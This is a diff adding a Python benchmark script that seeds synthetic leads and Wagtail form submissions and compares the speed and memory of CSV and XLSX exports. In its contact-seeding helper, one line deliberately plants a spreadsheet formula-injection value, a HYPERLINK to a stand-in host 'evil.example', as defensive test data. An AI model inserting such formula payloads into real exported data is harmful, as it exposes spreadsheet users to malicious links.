@@ -1,0 +1,620 @@
+"""Benchmark the lead exports (CSV and XLSX) against Wagtail's own form-submission export.
+
+Run from the project root:
+
+    .venv/bin/python benchmarks/exports.py                      # 1,000,000 rows, temporary SQLite file
+    .venv/bin/python benchmarks/exports.py --rows 100000
+    .venv/bin/python benchmarks/exports.py --database-url postgres://postgres@127.0.0.1:5432/crmportal_bench
+
+Uses a database of its own: by default a temporary SQLite file, or the
+``--database-url`` given (a PostgreSQL database is created when missing). It is
+migrated first; the benchmark's rows are deleted at the end (``--keep`` keeps them,
+a temporary SQLite file is always removed).
+
+Seeds N leads of a German questionnaire and its English translation (80/20) with
+realistic answers, contact data, consent, UTM fields and seven top matches, and N
+Wagtail ``FormSubmission`` rows of 15 fields each against the root page. Then it
+times, each in a forked child process:
+
+- leads CSV: ``iter_csv`` over ``filter_leads({})``, into a null sink (what the
+  admin streams, and what the background task writes to a file);
+- leads XLSX: ``write_xlsx`` into a temporary file (what the background task does);
+- Wagtail CSV / XLSX: ``SpreadsheetExportMixin.stream_csv`` / ``write_xlsx`` of
+  ``SubmissionsListView`` over the submissions, the XLSX into a BytesIO as
+  Wagtail's view does.
+
+Prints rows/s, time to the first byte and to the first data row of the CSVs, and
+the peak memory: the child's peak resident set size (``ru_maxrss`` from
+``wait4``) minus its size when it started. That counts everything the export
+made the process hold (Python objects, database driver buffers, openpyxl's
+buffers) and nothing of the seeding. ``--tracemalloc`` adds a second run per
+export with tracemalloc on (slower) that reports the peak of Python allocations.
+Finally the ratios against Wagtail and the targets; exit status 1 when one is missed.
+"""
+
+import argparse
+import io
+import json
+import os
+import random
+import shutil
+import sys
+import tempfile
+import time
+import uuid
+from datetime import timedelta
+from pathlib import Path
+from urllib.parse import urlsplit, urlunsplit
+
+sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
+
+SEED = 20250611
+TAG = "benchmark-exports"
+TARGETS = {
+    # format: (minimum speed-up against Wagtail, maximum peak memory in MB at 1,000,000 rows)
+    "csv": (5.0, 150),
+    "xlsx": (3.0, 250),
+}
+TARGET_FIRST_BYTE = 1.0
+
+INDUSTRIES = [("handel", "Handel"), ("handwerk", "Handwerk"), ("it", "IT"), ("beratung", "Beratung")]
+USES = [
+    ("sales", "Vertrieb"),
+    ("service", "Kundenservice"),
+    ("marketing", "Marketing"),
+    ("projects", "Projekte"),
+]
+INTEGRATIONS = [("outlook", "Outlook"), ("datev", "DATEV"), ("shopify", "Shopify"), ("teams", "Teams")]
+INTRO = [("weeks", "Wenige Wochen"), ("month", "Ein Monat"), ("quarter", "Ein Quartal")]
+MARKETS = [("b2b", "B2B"), ("b2c", "B2C"), ("both", "Beide")]
+FIRST = ["Erika", "Max", "Jürgen", "Aylin", "Sophie", "Lukas", "Ömer", "Marie", "Jonas", "Lea"]
+LAST = ["Mustermann", "Müller", "Schmidt", "Yılmaz", "Weber", "Schäfer", "Becker", "Hoffmann"]
+COMPANY = ["GmbH", "AG", "KG", "e.K.", "GmbH & Co. KG", "UG (haftungsbeschränkt)"]
+CRITERIA = ["industry", "employees", "users", "uses", "integrations", "intro_time", "german_hq", "market"]
+
+
+def parse_args(argv):
+    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    parser.add_argument("--rows", type=int, default=1_000_000, help="Leads and form submissions to create.")
+    parser.add_argument(
+        "--database-url",
+        default="",
+        help="Database to use (default: a temporary SQLite file). PostgreSQL databases are created.",
+    )
+    parser.add_argument("--batch", type=int, default=5_000, help="bulk_create batch size.")
+    parser.add_argument("--chunk-size", type=int, default=2_000, help="Rows per query of the lead export.")
+    parser.add_argument("--formats", nargs="+", choices=["csv", "xlsx"], default=["csv", "xlsx"])
+    parser.add_argument("--skip-wagtail", action="store_true", help="Time only the lead exports.")
+    parser.add_argument("--tracemalloc", action="store_true", help="Also report tracemalloc peaks.")
+    parser.add_argument(
+        "--keep", action="store_true", help="Keep the rows (not for a temporary SQLite file)."
+    )
+    return parser.parse_args(argv)
+
+
+def configure(args):
+    """Point the settings at the benchmark database, then set up Django."""
+    temp_dir = None
+    url = args.database_url
+    if not url:
+        temp_dir = tempfile.mkdtemp(prefix="leadwizard-bench-")
+        url = f"sqlite:///{temp_dir}/bench.sqlite3"
+    os.environ["DATABASE_URL"] = url
+    # DEBUG would keep every query (and bulk insert) in memory.
+    os.environ["DEBUG"] = "0"
+    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "website.settings.dev")
+    if url.startswith(("postgres://", "postgresql://")):
+        create_postgres_database(url)
+
+    import django
+
+    django.setup()
+    return url, temp_dir
+
+
+def create_postgres_database(url):
+    import psycopg2
+    from psycopg2 import sql
+
+    parts = urlsplit(url)
+    name = parts.path.lstrip("/")
+    maintenance = urlunsplit(parts._replace(path="/postgres"))
+    connection = psycopg2.connect(maintenance)
+    connection.autocommit = True
+    with connection.cursor() as cursor:
+        cursor.execute("SELECT 1 FROM pg_database WHERE datname = %s", [name])
+        if cursor.fetchone() is None:
+            cursor.execute(sql.SQL("CREATE DATABASE {}").format(sql.Identifier(name)))
+    connection.close()
+
+
+# Seeding --------------------------------------------------------------------------------
+
+
+def _item(value, block_type="item"):
+    return {"type": block_type, "id": str(uuid.uuid4()), "value": value}
+
+
+def _question(key, label, kind, role="", options=(), required=True):
+    return _item(
+        {
+            "key": key,
+            "label": label,
+            "kind": kind,
+            "required": required,
+            "role": role,
+            "explanation_title": "",
+            "explanation": "",
+            "min_value": 1 if kind == "number" else None,
+            "max_value": 100000 if kind == "number" else None,
+            "options": [_item({"key": k, "label": v}) for k, v in options],
+        }
+    )
+
+
+def questionnaire_steps(english=False):
+    def t(de, en):
+        return en if english else de
+
+    steps = [
+        ("industry", t("Branche", "Industry"), [
+            _question("industry", t("In welcher Branche arbeiten Sie?", "Your industry?"), "single", "industry", INDUSTRIES),
+        ]),
+        ("size", t("Unternehmensgröße", "Company size"), [
+            _question("employees", t("Wie viele Beschäftigte?", "How many employees?"), "number", "employees"),
+            _question("users", t("Wie viele Nutzer?", "How many users?"), "number", "users", required=False),
+        ]),
+        ("needs", t("Anforderungen", "Needs"), [
+            _question("uses", t("Wofür?", "What for?"), "multiple", "uses", USES),
+            _question("integrations", t("Integrationen?", "Integrations?"), "multiple", "integrations", INTEGRATIONS),
+            _question("intro_time", t("Einführungszeit?", "Introduction time?"), "single", "intro_time", INTRO),
+            _question("german_hq", t("Sitz in Deutschland?", "Headquarters in Germany?"), "yes_no", "german_hq"),
+            _question("market", t("B2B oder B2C?", "B2B or B2C?"), "one_of", "market", MARKETS),
+        ]),
+    ]  # fmt: skip
+    return json.dumps(
+        [
+            _item({"key": key, "title": title, "intro": "", "questions": questions}, "step")
+            for key, title, questions in steps
+        ]
+    )
+
+
+def make_questionnaires():
+    from wagtail.models import Locale
+
+    from leadwizard.models import Questionnaire
+
+    de = Locale.objects.get_or_create(language_code="de")[0]
+    en = Locale.objects.get_or_create(language_code="en")[0]
+    german = Questionnaire.objects.create(
+        title=f"{TAG} Fragebogen",
+        steps=questionnaire_steps(),
+        consent_text="<p>Ich willige ein.</p>",
+        locale=de,
+    )
+    english = Questionnaire.objects.create(
+        title=f"{TAG} questionnaire",
+        steps=questionnaire_steps(english=True),
+        consent_text="<p>I agree.</p>",
+        locale=en,
+        translation_key=german.translation_key,
+    )
+    return german, english
+
+
+def _contact(rng, number):
+    first, last = rng.choice(FIRST), rng.choice(LAST)
+    name = f"{first} {last}"
+    if number % 997 == 0:
+        name = f'=HYPERLINK("http://evil.example/?{number}","{name}")'  # formula injection attempt
+    company = f"{last} {rng.choice(('Software', 'Handel', 'Bau', 'Consulting'))} {rng.choice(COMPANY)}"
+    email = f"{first.lower()}.{last.lower()}{number}@example.com"
+    phone = f"+49 {rng.randint(30, 999)} {rng.randint(100000, 9999999)}"
+    return name, company, email, phone
+
+
+def make_leads(count, batch, german, english, start):
+    from leadwizard.models import Lead
+
+    rng = random.Random(SEED)
+    consent_version = "a" * 64
+    vendors = [f"Anbieter {n:03d}" for n in range(60)]
+    created = 0
+    while created < count:
+        objects = []
+        for number in range(created, min(count, created + batch)):
+            questionnaire = english if number % 5 == 4 else german
+            name, company, email, phone = _contact(rng, number)
+            answers = {
+                "industry": rng.choice(INDUSTRIES)[0],
+                "employees": rng.randint(1, 5000),
+                "users": rng.randint(1, 300),
+                "uses": [k for k, _label in rng.sample(USES, rng.randint(1, 4))],
+                "integrations": [k for k, _label in rng.sample(INTEGRATIONS, rng.randint(1, 3))],
+                "intro_time": rng.choice(INTRO)[0],
+                "german_hq": rng.choice(("yes", "no")),
+                "market": rng.choice(MARKETS)[0],
+            }
+            matches = [
+                {
+                    "vendor_id": index,
+                    "vendor": vendor,
+                    "score": round(rng.random() * 100, 1),
+                    "reasons": [
+                        {"criterion": criterion, "met": rng.random() < 0.8, "keys": [], "points": 10}
+                        for criterion in CRITERIA[:5]
+                    ],
+                }
+                for index, vendor in enumerate(rng.sample(vendors, 7))
+            ]
+            when = start + timedelta(seconds=number * 7)
+            objects.append(
+                Lead(
+                    questionnaire=questionnaire,
+                    answers=answers,
+                    answer_labels=[],
+                    industry=answers["industry"],
+                    employees=answers["employees"],
+                    name=name,
+                    company=company,
+                    email=email,
+                    phone=phone,
+                    message="Bitte um Rückruf." if number % 3 else "",
+                    consent_text="<p>Ich willige ein.</p>",
+                    consent_version=consent_version,
+                    consent_given_at=when,
+                    source_url="https://crm-portal.example/magazin/crm-auswahl/",
+                    locale="en" if questionnaire is english else "de",
+                    landing_url="https://crm-portal.example/magazin/crm-auswahl/?utm_source=newsletter",
+                    referrer="https://www.google.com/",
+                    utm_source="newsletter",
+                    utm_medium="email",
+                    utm_campaign=TAG,
+                    match_count=rng.randint(0, 40),
+                    top_matches=matches,
+                    marketing_consent=number % 4 == 0,
+                    marketing_confirmed_at=when if number % 8 == 0 else None,
+                )
+            )
+        Lead.objects.bulk_create(objects, batch_size=batch)
+        created += len(objects)
+    # created_at is auto_now_add: spread it out afterwards, like real submissions over time.
+    return created
+
+
+def spread_created_at(start):
+    from django.db import connection
+
+    from leadwizard.models import Lead
+
+    table = Lead._meta.db_table
+    with connection.cursor() as cursor:
+        cursor.execute(f"UPDATE {table} SET created_at = consent_given_at WHERE utm_campaign = %s", [TAG])  # noqa: S608
+
+
+SUBMISSION_FIELDS = [
+    "name", "company", "email", "phone", "message", "industry", "employees", "users", "uses",
+    "integrations", "intro_time", "german_hq", "market", "utm_source", "utm_campaign",
+]  # fmt: skip
+
+
+def make_submissions(count, batch, page, start):
+    from wagtail.contrib.forms.models import FormSubmission
+
+    rng = random.Random(SEED)
+    created = 0
+    while created < count:
+        objects = []
+        for number in range(created, min(count, created + batch)):
+            name, company, email, phone = _contact(rng, number)
+            data = {
+                "name": name,
+                "company": company,
+                "email": email,
+                "phone": phone,
+                "message": "Bitte um Rückruf." if number % 3 else "",
+                "industry": rng.choice(INDUSTRIES)[0],
+                "employees": str(rng.randint(1, 5000)),
+                "users": str(rng.randint(1, 300)),
+                "uses": [k for k, _label in rng.sample(USES, rng.randint(1, 4))],
+                "integrations": [k for k, _label in rng.sample(INTEGRATIONS, rng.randint(1, 3))],
+                "intro_time": rng.choice(INTRO)[0],
+                "german_hq": rng.choice(("yes", "no")),
+                "market": rng.choice(MARKETS)[0],
+                "utm_source": "newsletter",
+                "utm_campaign": TAG,
+            }
+            objects.append(FormSubmission(page=page, form_data=data))
+        FormSubmission.objects.bulk_create(objects, batch_size=batch)
+        created += len(objects)
+    return created
+
+
+# Measuring ------------------------------------------------------------------------------
+
+
+class NullSink:
+    """Counts bytes written and forgets them."""
+
+    def __init__(self):
+        self.bytes = 0
+
+    def write(self, data):
+        self.bytes += len(data)
+        return len(data)
+
+
+def _rss_mb():
+    # Current resident set size of this process (Linux).
+    with open("/proc/self/statm") as statm:
+        return int(statm.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20
+
+
+def run_forked(function, use_tracemalloc=False):
+    """Run ``function()`` in a forked child; return its result dict with seconds and peak memory."""
+    from django.db import connections
+
+    connections.close_all()
+    read_fd, write_fd = os.pipe()
+    pid = os.fork()
+    if pid == 0:  # child
+        os.close(read_fd)
+        code = 0
+        try:
+            if use_tracemalloc:
+                import tracemalloc
+
+                tracemalloc.start()
+            start_rss = _rss_mb()
+            began = time.perf_counter()
+            result = function()
+            result["seconds"] = time.perf_counter() - began
+            result["start_rss_mb"] = start_rss
+            if use_tracemalloc:
+                result["tracemalloc_peak_mb"] = tracemalloc.get_traced_memory()[1] / 2**20
+            connections.close_all()
+        except BaseException as error:  # report any failure to the parent
+            result = {"error": repr(error)}
+            code = 1
+        with os.fdopen(write_fd, "w") as pipe:
+            json.dump(result, pipe)
+        os._exit(code)
+    os.close(write_fd)
+    with os.fdopen(read_fd) as pipe:
+        payload = pipe.read()
+    _pid, _status, usage = os.wait4(pid, 0)
+    result = json.loads(payload or '{"error": "no result"}')
+    if "error" in result:
+        raise RuntimeError(result["error"])
+    # ru_maxrss is in kilobytes on Linux.
+    result["peak_mb"] = usage.ru_maxrss / 1024 - result["start_rss_mb"]
+    result["cpu_seconds"] = usage.ru_utime + usage.ru_stime
+    return result
+
+
+def lead_csv(chunk_size):
+    from leadwizard.exports import columns_for, iter_csv
+    from leadwizard.filters import filter_leads
+
+    began = time.perf_counter()
+    sink = NullSink()
+    first_byte = first_row = None
+    queryset = filter_leads({})
+    columns = columns_for(queryset)
+    for number, block in enumerate(iter_csv(queryset, columns, chunk_size=chunk_size)):
+        if number == 0:
+            first_byte = time.perf_counter() - began
+        elif number == 1:
+            first_row = time.perf_counter() - began
+        sink.write(block)
+    return {"bytes": sink.bytes, "first_byte": first_byte, "first_row": first_row, "columns": len(columns)}
+
+
+def lead_xlsx(chunk_size):
+    from leadwizard.exports import columns_for, write_xlsx
+    from leadwizard.filters import filter_leads
+
+    queryset = filter_leads({})
+    columns = columns_for(queryset)
+    with tempfile.TemporaryFile() as output:
+        write_xlsx(queryset, output, columns, chunk_size=chunk_size)
+        return {"bytes": output.tell(), "columns": len(columns)}
+
+
+def _wagtail_view(page):
+    from wagtail.contrib.forms.views import SubmissionsListView
+
+    view = SubmissionsListView()
+    view.form_page = page
+    # What the view sets for an export (form_page.get_data_fields() of a form with these fields).
+    view.list_export = [*SUBMISSION_FIELDS, "submit_time"]
+    view.export_headings = {field: field.replace("_", " ").capitalize() for field in view.list_export}
+    return view
+
+
+def _submissions(page):
+    from wagtail.contrib.forms.models import FormSubmission
+
+    # As SubmissionsListView exports: the page's submissions, oldest first.
+    return FormSubmission.objects.filter(page=page).order_by("submit_time")
+
+
+def wagtail_csv(page_id):
+    from wagtail.models import Page
+
+    page = Page.objects.get(pk=page_id)
+    view = _wagtail_view(page)
+    began = time.perf_counter()
+    sink = NullSink()
+    first_byte = first_row = None
+    for number, line in enumerate(view.stream_csv(_submissions(page))):
+        if number == 0:
+            first_byte = time.perf_counter() - began
+        elif number == 1:
+            first_row = time.perf_counter() - began
+        sink.write(line if isinstance(line, bytes) else line.encode())
+    columns = len(view.list_export)
+    return {"bytes": sink.bytes, "first_byte": first_byte, "first_row": first_row, "columns": columns}
+
+
+def wagtail_xlsx(page_id):
+    from wagtail.models import Page
+
+    page = Page.objects.get(pk=page_id)
+    view = _wagtail_view(page)
+    output = io.BytesIO()  # as SpreadsheetExportMixin.write_xlsx_response does
+    view.write_xlsx(_submissions(page), output)
+    return {"bytes": output.tell(), "columns": len(view.list_export)}
+
+
+# Main -----------------------------------------------------------------------------------
+
+
+def cleanup(page_id):
+    from django.db import connection
+    from wagtail.contrib.forms.models import FormSubmission
+
+    from leadwizard.models import Lead, Questionnaire
+
+    with connection.cursor() as cursor:
+        # Plain DELETEs: the ORM would load a million rows to look for cascades (there are none).
+        cursor.execute(f"DELETE FROM {Lead._meta.db_table} WHERE utm_campaign = %s", [TAG])  # noqa: S608
+        cursor.execute(
+            f"DELETE FROM {FormSubmission._meta.db_table} WHERE page_id = %s AND form_data LIKE %s",  # noqa: S608
+            [page_id, f"%{TAG}%"],
+        )
+    Questionnaire.objects.filter(title__startswith=TAG).delete()
+
+
+def describe(url):
+    parts = urlsplit(url)
+    return f"{parts.scheme}://{parts.hostname or ''}{parts.path}" if parts.hostname else url
+
+
+def main(argv=None):
+    args = parse_args(argv)
+    url, temp_dir = configure(args)
+
+    from django.conf import settings
+    from django.core.management import call_command
+    from django.db import connection
+    from django.utils import timezone
+    from wagtail.models import Page
+
+    from leadwizard.models import Lead
+
+    print(
+        f"Database: {connection.vendor} ({describe(url)}); rows: {args.rows:,}; chunk size: {args.chunk_size:,}"
+    )
+    began = time.perf_counter()
+    call_command("migrate", interactive=False, verbosity=0)
+    print(f"Migrated in {time.perf_counter() - began:.1f} s")
+    if Lead.objects.filter(utm_campaign=TAG).exists():
+        sys.exit("Rows of an earlier run are still there (--keep?); delete them or use another database.")
+
+    page = Page.get_first_root_node()
+    failures = []
+    try:
+        start = timezone.now() - timedelta(seconds=7 * args.rows + 3600)
+        began = time.perf_counter()
+        german, english = make_questionnaires()
+        make_leads(args.rows, args.batch, german, english, start)
+        spread_created_at(start)
+        print(f"Created {args.rows:,} leads in {time.perf_counter() - began:.1f} s")
+        if not args.skip_wagtail:
+            began = time.perf_counter()
+            make_submissions(args.rows, args.batch, page, start)
+            print(f"Created {args.rows:,} form submissions in {time.perf_counter() - began:.1f} s")
+        if connection.vendor == "postgresql":
+            with connection.cursor() as cursor:
+                cursor.execute("ANALYZE")
+
+        jobs = []
+        for fmt in args.formats:
+            function = lead_csv if fmt == "csv" else lead_xlsx
+            jobs.append((fmt, "leads", lambda f=function: f(args.chunk_size)))
+            if not args.skip_wagtail:
+                function = wagtail_csv if fmt == "csv" else wagtail_xlsx
+                jobs.append((fmt, "wagtail", lambda f=function: f(page.pk)))
+
+        results = {}
+        header = (
+            f"{'export':<16} {'rows/s':>10} {'seconds':>8} {'cpu s':>7} {'cells/s':>10} {'MB out':>7} "
+            f"{'peak MB':>8} {'1st byte':>9} {'1st row':>8}"
+        )
+        if args.tracemalloc:
+            header += f" {'tracemalloc MB':>15}"
+        print()
+        print(header)
+        for fmt, who, function in jobs:
+            result = run_forked(function)
+            if args.tracemalloc:
+                result["tracemalloc_peak_mb"] = run_forked(function, use_tracemalloc=True)[
+                    "tracemalloc_peak_mb"
+                ]
+            results[fmt, who] = result
+            rate = args.rows / result["seconds"]
+            line = (
+                f"{who + ' ' + fmt.upper():<16} {rate:>10,.0f} {result['seconds']:>8.1f} {result['cpu_seconds']:>7.1f} "
+                f"{rate * result['columns']:>10,.0f} {result['bytes'] / 2**20:>7.1f} {result['peak_mb']:>8.1f} "
+                + (
+                    f"{result['first_byte']:>8.3f}s {result['first_row']:>7.3f}s"
+                    if fmt == "csv"
+                    else f"{'':>9} {'':>8}"
+                )
+            )
+            if args.tracemalloc:
+                line += f" {result['tracemalloc_peak_mb']:>15.1f}"
+            print(line, flush=True)
+
+        print()
+        print("peak MB: the export process's peak resident set size (ru_maxrss) minus its size at the start.")
+        for fmt in args.formats:
+            speedup, max_mb = TARGETS[fmt]
+            ours = results[fmt, "leads"]
+            if (fmt, "wagtail") in results:
+                theirs = results[fmt, "wagtail"]
+                ratio = theirs["seconds"] / ours["seconds"]
+                cpu_ratio = theirs["cpu_seconds"] / ours["cpu_seconds"]
+                cell_ratio = ratio * ours["columns"] / theirs["columns"]
+                memory = theirs["peak_mb"] / max(ours["peak_mb"], 0.1)
+                met = ratio >= speedup
+                print(
+                    f"{fmt.upper()}: {ratio:.1f}x faster than Wagtail in rows/s (target >= {speedup:g}x: "
+                    f"{'MET' if met else 'NOT MET'}); {cpu_ratio:.1f}x in CPU time of the export process; "
+                    f"{cell_ratio:.1f}x in cells/s ({ours['columns']} vs {theirs['columns']} columns); "
+                    f"Wagtail needs {memory:.1f}x the memory"
+                )
+                if not met:
+                    failures.append(f"{fmt} speed")
+            scaled = args.rows < 1_000_000
+            met = ours["peak_mb"] < max_mb
+            print(
+                f"{fmt.upper()}: peak {ours['peak_mb']:.1f} MB (target < {max_mb} MB at 1,000,000 rows: "
+                f"{'MET' if met else 'NOT MET'}{', measured at fewer rows' if scaled else ''})"
+            )
+            if not met:
+                failures.append(f"{fmt} memory")
+            if fmt == "csv":
+                met = ours["first_byte"] <= TARGET_FIRST_BYTE
+                print(
+                    f"CSV: first byte after {ours['first_byte']:.3f} s, first lead after {ours['first_row']:.3f} s "
+                    f"(target <= {TARGET_FIRST_BYTE:g} s: {'MET' if met else 'NOT MET'})"
+                )
+                if not met:
+                    failures.append("csv first byte")
+        print(
+            f"Export chunk size {args.chunk_size}; background threshold {settings.LEADWIZARD_EXPORT_BACKGROUND_THRESHOLD:,}"
+        )
+    finally:
+        if temp_dir:
+            connection.close()
+            shutil.rmtree(temp_dir, ignore_errors=True)
+        elif not args.keep:
+            cleanup(page.pk)
+    return 1 if failures else 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
